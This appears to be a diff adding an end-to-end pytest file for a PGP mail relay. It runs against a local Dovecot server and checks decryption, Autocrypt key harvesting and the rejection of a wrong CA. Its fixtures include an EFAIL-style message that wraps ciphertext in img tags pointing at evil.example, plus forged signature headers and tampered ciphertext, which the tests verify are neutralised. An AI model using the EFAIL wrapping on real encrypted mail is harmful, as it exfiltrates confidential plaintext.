@@ -1,0 +1,288 @@
+"""IMAP side end to end: a real Dovecot (unprivileged, loopback, TLS with a test
+CA, maildir under a temp dir), patients' mail put in with imaplib, sealpostd
+decrypting and harvesting, the result checked with imaplib again."""
+import base64
+import grp
+import imaplib
+import json
+import os
+import pwd
+import shutil
+import signal
+import ssl
+import subprocess
+import tempfile
+import time
+from pathlib import Path
+
+import pytest
+
+from sealpost_harness import GpgHome, Relay, TestCA, free_port, wait_port
+
+PRACTICE = "praxis@praxis.example"
+PATIENT = "patient@example.org"
+IMAP_USER = "praxis"
+IMAP_PASS = "imap-secret-7f3a"
+
+
+class Dovecot:
+    """dovecot -F on a free loopback port. Run as `nobody` when the tests run as
+    root (Dovecot's login processes refuse root), as the current user otherwise."""
+
+    def __init__(self, ca):
+        self.dir = Path(tempfile.mkdtemp(prefix="sealpost-dovecot-"))
+        os.chmod(self.dir, 0o755)
+        self.user = pwd.getpwnam("nobody") if os.getuid() == 0 else pwd.getpwuid(os.getuid())
+        group = grp.getgrgid(self.user.pw_gid).gr_name
+        cert, key = ca.server_cert("localhost", stem="dovecot-localhost")
+        shutil.copy(cert, self.dir / "cert.pem")
+        shutil.copy(key, self.dir / "key.pem")
+        (self.dir / "passwd").write_text("%s:{PLAIN}%s::::::\n" % (IMAP_USER, IMAP_PASS))
+        self.port = free_port()
+        d = self.dir
+        (d / "dovecot.conf").write_text(f"""
+base_dir = {d}/run
+state_dir = {d}/state
+log_path = {d}/dovecot.log
+protocols = imap
+listen = 127.0.0.1
+ssl = required
+ssl_cert = <{d}/cert.pem
+ssl_key = <{d}/key.pem
+default_internal_user = {self.user.pw_name}
+default_internal_group = {group}
+default_login_user = {self.user.pw_name}
+mail_location = maildir:{d}/mail/%u
+namespace inbox {{
+  inbox = yes
+  separator = /
+}}
+passdb {{
+  driver = passwd-file
+  args = scheme=PLAIN username_format=%u {d}/passwd
+}}
+userdb {{
+  driver = static
+  args = uid={self.user.pw_uid} gid={self.user.pw_gid} home={d}/home/%u
+}}
+service imap-login {{
+  chroot =
+  inet_listener imap {{
+    port = 0
+  }}
+  inet_listener imaps {{
+    port = {self.port}
+    ssl = yes
+  }}
+}}
+service anvil {{
+  chroot =
+}}
+""")
+        for root, dirs, files in os.walk(d):
+            for n in dirs + files:
+                os.chown(os.path.join(root, n), self.user.pw_uid, self.user.pw_gid)
+        os.chown(d, self.user.pw_uid, self.user.pw_gid)
+        self.ca = ca.cert
+        self.proc = None
+
+    def start(self):
+        uid, gid = self.user.pw_uid, self.user.pw_gid
+
+        def drop():
+            if os.getuid() == 0:
+                os.setgroups([])
+                os.setgid(gid)
+                os.setuid(uid)
+
+        self.proc = subprocess.Popen(["dovecot", "-F", "-c", str(self.dir / "dovecot.conf")],
+                                     preexec_fn=drop, stdout=subprocess.DEVNULL,
+                                     stderr=subprocess.DEVNULL)
+        wait_port(self.port, proc=self.proc)
+        return self
+
+    def stop(self):
+        if self.proc and self.proc.poll() is None:
+            self.proc.send_signal(signal.SIGTERM)
+            try:
+                self.proc.wait(15)
+            except subprocess.TimeoutExpired:
+                self.proc.kill()
+                self.proc.wait()
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+    def client(self):
+        ctx = ssl.create_default_context(cafile=str(self.ca))
+        m = imaplib.IMAP4_SSL("localhost", self.port, ssl_context=ctx)
+        m.login(IMAP_USER, IMAP_PASS)
+        return m
+
+
+def append(dovecot, folder, message):
+    m = dovecot.client()
+    typ, _ = m.append(folder, None, None, message.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
+    assert typ == "OK"
+    m.logout()
+
+
+def fetch_all(dovecot, folder):
+    m = dovecot.client()
+    typ, _ = m.select('"%s"' % folder, readonly=True)
+    if typ != "OK":
+        m.logout()
+        return []
+    typ, data = m.uid("FETCH", "1:*", "(BODY.PEEK[])")
+    out = [part[1] for part in data if isinstance(part, tuple)]
+    m.logout()
+    return out
+
+
+def pgp_mime(outer_headers, armored, wrap_in=None):
+    """RFC 3156 multipart/encrypted; with wrap_in, nested between attacker parts."""
+    enc = (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
+           b' boundary="enc"\r\n\r\n'
+           b"--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
+           b"--enc\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n"
+           + armored + b"\r\n--enc--\r\n")
+    head = outer_headers.encode() + b"MIME-Version: 1.0\r\n"
+    if not wrap_in:
+        return head + enc
+    return (head + b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
+            b"--outer\r\nContent-Type: text/html\r\n\r\n" + wrap_in[0] + b"\r\n"
+            b"--outer\r\n" + enc + b"\r\n"
+            b"--outer\r\nContent-Type: text/html\r\n\r\n" + wrap_in[1] + b"\r\n--outer--\r\n")
+
+
+INNER = (b'Content-Type: multipart/alternative; boundary="alt"\r\n'
+         b"X-Sealpost-Signature: valid key FORGED-INSIDE\r\n\r\n"
+         b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nIhr Befund ist unauffaellig.\r\n"
+         b"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
+         b'<p>Ihr Befund ist unauffaellig.<img src="https://tracker.example/p.gif" alt="logo"></p>\r\n'
+         b"--alt--\r\n")
+
+
+@pytest.fixture
+def world(tmp_path):
+    ca = TestCA(tmp_path / "ca")
+    dovecot = Dovecot(ca).start()
+    practice = GpgHome(tmp_path / "practice-gpg")
+    patient = GpgHome(tmp_path / "patient-gpg")
+    homes = [practice.dir, patient.dir]
+    relay = None
+    try:
+        practice_fpr = practice.gen_key(PRACTICE, name="Praxis")
+        patient_fpr = patient.gen_key(PATIENT, name="Patientin")
+        practice.export_secret(practice_fpr, tmp_path / "practice.sec")
+        patient.gpg("--import", str(practice.export(PRACTICE, tmp_path / "practice.pub")))
+        pw = tmp_path / "imap.pass"
+        pw.write_text(IMAP_PASS + "\n")
+        relay = Relay(tmp_path, smarthost_port=free_port(), ca=ca, config_overrides={"imap": [{
+            "host": "localhost", "port": dovecot.port, "tls": "implicit",
+            "ca_file": str(ca.cert), "username": IMAP_USER, "password_file": str(pw),
+            "folders": ["INBOX"]}]})
+        relay.cli("keys", "import", tmp_path / "practice.sec")
+        homes.append(relay.state_dir / "gnupg")
+        yield dict(tmp=tmp_path, dovecot=dovecot, relay=relay, patient=patient,
+                   patient_fpr=patient_fpr, practice_fpr=practice_fpr)
+    finally:
+        if relay is not None:
+            relay.stop()
+        dovecot.stop()
+        for h in homes:
+            subprocess.run(["gpgconf", "--homedir", str(h), "--kill", "all"], capture_output=True)
+
+
+def wait_for(pred, timeout=60):
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        v = pred()
+        if v:
+            return v
+        time.sleep(0.5)
+    raise TimeoutError("condition not met")
+
+
+def test_decrypts_harvests_and_processes_once(world):
+    dovecot, relay, patient = world["dovecot"], world["relay"], world["patient"]
+    tmp = world["tmp"]
+    keydata = base64.b64encode(patient.gpg("--export", PATIENT).stdout).decode()
+    folded = "\r\n ".join(keydata[i:i + 76] for i in range(0, len(keydata), 76))
+    autocrypt_mail = ("From: Patientin <%s>\r\nTo: %s\r\nSubject: Hallo\r\n"
+                      "Message-ID: <ac-1@example.org>\r\n"
+                      "Autocrypt: addr=%s; prefer-encrypt=mutual; keydata=\r\n %s\r\n"
+                      "\r\nGuten Tag.\r\n" % (PATIENT, PRACTICE, PATIENT, folded)).encode()
+    append(dovecot, "INBOX", autocrypt_mail)
+
+    (tmp / "inner.txt").write_bytes(INNER)
+    armored = patient.gpg("--armor", "--trust-model", "always", "--encrypt", "--sign",
+                          "-u", PATIENT, "-r", PRACTICE, "-o", "-", str(tmp / "inner.txt")).stdout
+    headers = ("From: Patientin <%s>\r\nTo: %s\r\nSubject: ...\r\nMessage-ID: <enc-1@example.org>\r\n"
+               "X-Sealpost-Signature: valid key FORGED-OUTSIDE\r\nX-Sealpost-Decrypted: yes\r\n"
+               % (PATIENT, PRACTICE))
+    append(dovecot, "INBOX", pgp_mime(headers, armored))
+    efail = headers.replace("enc-1", "enc-2")
+    append(dovecot, "INBOX", pgp_mime(efail, armored,
+                                      wrap_in=(b'<img src="https://evil.example/', b'">')))
+    # Tampered: one bit flipped in the ciphertext (binary, base64 on the wire).
+    binary = bytearray(patient.gpg("--trust-model", "always", "--encrypt", "-r", PRACTICE,
+                                   "-o", "-", str(tmp / "inner.txt")).stdout)
+    binary[len(binary) - 20] ^= 0x01
+    plain_headers = "".join(l + "\r\n" for l in headers.split("\r\n")
+                            if l and not l.startswith("X-Sealpost"))
+    tampered = pgp_mime(plain_headers.replace("enc-1", "bad-1"), b"").replace(
+        b"name=encrypted.asc\r\n\r\n\r\n",
+        b"name=encrypted.asc\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
+        base64.encodebytes(bytes(binary)).replace(b"\n", b"\r\n"))
+    append(dovecot, "INBOX", tampered)
+
+    relay.start()
+    originals = wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 2 and
+                         fetch_all(dovecot, "Sealpost/Originals"))
+    assert all(b"multipart/encrypted" in m for m in originals)
+    inbox = fetch_all(dovecot, "INBOX")
+    readable = [m for m in inbox if b"X-Sealpost-Decrypted: yes" in m]
+    assert len(readable) == 2
+    for m in readable:
+        assert b"FORGED" not in m
+        assert b"Ihr Befund ist unauffaellig." in m
+        assert b"tracker.example" not in m  # remote image dropped from decrypted HTML
+        assert b"BEGIN PGP MESSAGE" not in m
+        assert m.count(b"X-Sealpost-Signature:") == 1
+        assert ("X-Sealpost-Signature: valid key %s" % world["patient_fpr"]).encode() in m
+    efail_copy = [m for m in readable if b"enc-2" in m][0]
+    assert b"evil.example" not in efail_copy and b"X-Sealpost-Note:" in efail_copy
+    # The tampered message and the Autocrypt mail stay where they were, untouched.
+    assert any(b"bad-1" in m and b"X-Sealpost-Decrypted" not in m for m in inbox)
+    assert any(b"ac-1" in m for m in inbox)
+    assert len(inbox) == 4
+
+    keys = json.loads(relay.cli("--json", "keys", "list").stdout)
+    entries = keys if isinstance(keys, list) else keys.get("keys", [])
+    harvested = [k for k in entries if k.get("id") == world["patient_fpr"]]
+    assert harvested and harvested[0]["provenance"]["source"] == "harvested"
+
+    # Restart: nothing is processed a second time (no third readable copy, no move).
+    relay.stop()
+    relay.start()
+    status = wait_for(lambda: (lambda s: s["accounts"][0]["last_uid"] >= 6 and s)(
+        json.loads(relay.cli("--json", "imap", "status").stdout)), timeout=60)
+    assert status["accounts"][0]["last_error"] == ""
+    assert status["accounts"][0]["folder"] == "INBOX"
+    assert status["accounts"][0]["uidvalidity"] > 0
+    time.sleep(2)
+    assert len(fetch_all(dovecot, "INBOX")) == 4
+    assert len(fetch_all(dovecot, "Sealpost/Originals")) == 2
+    assert IMAP_PASS not in relay.log()
+    assert "unauffaellig" not in relay.log()
+
+
+def test_wrong_ca_is_refused(world):
+    relay, tmp = world["relay"], world["tmp"]
+    other = TestCA(tmp / "other-ca", name="Other CA")
+    relay.config["imap"][0]["ca_file"] = str(other.cert)
+    relay.write_config()
+    relay.start()
+    status = wait_for(lambda: (lambda s: s["accounts"][0]["last_error"] not in ("", "never polled")
+                               and s)(json.loads(relay.cli("--json", "imap", "status").stdout)))
+    assert "certificate" in status["accounts"][0]["last_error"]
+    assert len(fetch_all(world["dovecot"], "INBOX")) == 0
